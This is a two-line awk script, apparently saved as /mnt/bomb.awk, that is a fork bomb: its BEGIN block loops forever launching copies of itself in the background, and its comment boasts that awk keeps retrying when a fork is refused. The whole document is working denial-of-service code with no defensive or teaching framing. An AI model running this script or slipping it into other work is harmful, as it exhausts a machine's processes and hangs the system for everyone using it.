# Each process starts others for ever. awk tries again when a fork is refused, where a shell would give up.
BEGIN { for (;;) system("awk -f /mnt/bomb.awk &") }
